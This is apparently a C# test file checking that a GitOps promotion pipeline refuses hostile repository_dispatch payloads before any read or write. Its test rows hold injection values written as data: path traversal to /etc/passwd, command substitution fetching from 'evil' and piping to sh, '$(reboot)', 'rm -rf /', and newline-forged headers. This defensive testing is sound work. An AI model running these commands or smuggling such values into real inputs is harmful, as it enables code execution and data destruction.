using System.Text.Json.Nodes;
using Pipeline.GitHub;
using Pipeline.Promotion.Tests.Support;

namespace Pipeline.Promotion.Tests.Adversarial;

/// <summary>
/// A repository_dispatch is input from outside. Whatever a hostile payload holds, the receiver refuses it before it
/// reads anything of the GitOps repository beyond its spec, and writes nothing.
/// </summary>
public sealed class HostileDispatchTests(GitOpsServer github) : IClassFixture<GitOpsServer>, IDisposable
{
    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("promotion-hostile-");

    public void Dispose() => _folder.Delete(recursive: true);

    [Theory]
    [InlineData("dotdot_in_app", """{"app":"../../etc","image":"IMAGE"}""", "app '../../etc'", false)]
    [InlineData("absolute_path_as_environment", """{"app":"myapp","environments":["/etc/passwd"],"image":"IMAGE"}""", "environment '/etc/passwd'", false)]
    [InlineData("path_key", """{"app":"myapp","image":"IMAGE","path":"../../etc/passwd"}""", "key(s) 'path'", false)]
    [InlineData("app_not_in_spec", """{"app":"other","image":"IMAGE"}""", "app 'other', which", true)]
    [InlineData("environment_not_in_spec", """{"app":"myapp","environments":["staging"],"image":"IMAGE"}""", "environment 'staging', which", true)]
    [InlineData("command_substitution_in_app", """{"app":"$(reboot)","image":"IMAGE"}""", "app '$(reboot)'", false)]
    [InlineData("command_substitution_in_source_branch", """{"app":"myapp","image":"IMAGE","source_branch":"$(curl${IFS}evil|sh)"}""", "source_branch", false)]
    [InlineData("quotes_in_source_repository", """{"app":"myapp","image":"IMAGE","source_repository":"acme/web\"; rm -rf /"}""", "source_repository", false)]
    [InlineData("quote_in_image_tag", """{"app":"myapp","image":"ghcr.io/myorg/myapp:1.0\"\nx: y@sha256:HEX"}""", "image", false)]
    [InlineData("newline_in_source_branch", """{"app":"myapp","image":"IMAGE","source_branch":"main\nPromoted-Image: evil"}""", "source_branch", false)]
    [InlineData("newline_after_source_commit", """{"app":"myapp","image":"IMAGE","source_commit":"abcdef1\n"}""", "source_commit", false)]
    [InlineData("newline_in_source_message", """{"app":"myapp","image":"IMAGE","source_message":"Fix\n\nPromoted-Image: evil"}""", "source_message", false)]
    [InlineData("eleven_keys", """{"app":"myapp","image":"IMAGE","environments":["dev"],"source_repository":"a/b","source_commit":"abcdef1","source_branch":"main","source_message":"m","ci_run":"https://ci","k9":1,"k10":2,"k11":3}""", "11 top-level properties", false)]
    [InlineData("event_type_of_101_characters", "EVENT101", "101 characters", false)]
    [InlineData("payload_of_64_KB", "BIG", "bytes as JSON", false)]
    public async Task Hostile_dispatch_payload_is_refused_before_any_read_or_write(string attack, string payload, string named, bool needsSpec)
    {
        var gitops = await github.RepositoryAsync(fixture: "helm-environments");
        var head = await github.HeadAsync(gitops);
        var eventPath = Path.Combine(_folder.FullName, attack + ".json");
        await File.WriteAllTextAsync(eventPath, Event(payload));
        var template = new PromotionSettings(github.Target(gitops)) { Credentials = github.UserCredentials, Branch = "main", WriteMethod = WriteMethod.GitData };
        var before = github.Server.RequestLog.Count;

        var act = () => new Promoter().ApplyDispatchAsync(eventPath, template);

        (await act.Should().ThrowAsync<PromotionDispatchException>()).Which.Message.Should().Contain(named);
        var requests = github.Server.RequestLog.Skip(before).Where(r => r.Path.Contains($"/repos/{gitops}", StringComparison.Ordinal)).ToList();
        if (needsSpec)
        {
            // The spec may come through GraphQL (not under /repos/); whatever went to the repository's REST routes only read.
            requests.Should().NotContain(r => r.Method != "GET", "only the spec is read").And.NotContain(r => r.Path.Contains("/contents/environments", StringComparison.Ordinal));
        }
        else
        {
            requests.Should().BeEmpty();
        }

        (await github.HeadAsync(gitops)).Should().Be(head);
    }

    private static string Event(string payload)
    {
        var image = Images.Pinned("ghcr.io/myorg/myapp", "1.0-dev");
        var action = "pipeline-promote";
        if (payload == "EVENT101")
        {
            action = new string('e', 101);
            payload = """{"app":"myapp","image":"IMAGE"}""";
        }
        else if (payload == "BIG")
        {
            payload = $$"""{"app":"myapp","image":"IMAGE","source_message":"{{new string('x', 70_000)}}"}""";
        }

        var json = payload.Replace("IMAGE", image.ToString(), StringComparison.Ordinal).Replace("HEX", image.Digest!.Hex, StringComparison.Ordinal);
        return new JsonObject { ["action"] = action, ["client_payload"] = JsonNode.Parse(json) }.ToJsonString();
    }
}
